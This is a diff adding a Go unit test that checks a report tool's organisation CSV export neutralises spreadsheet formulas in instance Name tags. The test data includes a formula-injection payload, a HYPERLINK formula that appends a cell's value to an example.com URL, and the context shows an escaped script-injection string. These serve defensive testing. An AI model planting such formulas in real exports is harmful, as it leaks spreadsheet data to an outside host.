@@ -2,6 +2,7 @@ package report
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 	"time"
@@ -89,5 +90,41 @@ func TestOrgHTMLEscapesMemberData(t *testing.T) {
 	}
 	if strings.Count(page, "&lt;script&gt;alert(1)&lt;/script&gt;") < 2 {
 		t.Errorf("the hostile Name tag and error are not on the page as text:\n%s", page)
+	}
+}
+
+// TestCSVNameIsNoFormula: an instance's Name tag, which a member account
+// writes, reaches the organisation CSV as text a spreadsheet does not run:
+// a leading =, +, -, @ gets a quote; an ordinary name is left alone.
+func TestCSVNameIsNoFormula(t *testing.T) {
+	for name, want := range map[string]string{
+		`=HYPERLINK("https://example.com/?"&A2,"open")`: `'=HYPERLINK("https://example.com/?"&A2,"open")`,
+		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "web-1": "web-1", "": "",
+	} {
+		inv, p := fleet(t)
+		late := inv.Instances["i-late"]
+		late.Tags = []inventory.Tag{{Key: "Name", Value: name}}
+		inv.Instances["i-late"] = late
+		rep := New("222222222222", now, nil, []Region{ForRegion(inv, p, Options{Now: now})})
+		var b bytes.Buffer
+		if err := WriteOrgCSV(&b, NewOrg(now, []OrgAccount{AccountOf(rep, nil)})); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, r := range rows {
+			if r[4] == "i-late" {
+				found = true
+				if r[5] != want {
+					t.Errorf("Name %q: instance_name %q, want %q", name, r[5], want)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("no row of i-late:\n%s", b.String())
+		}
 	}
 }
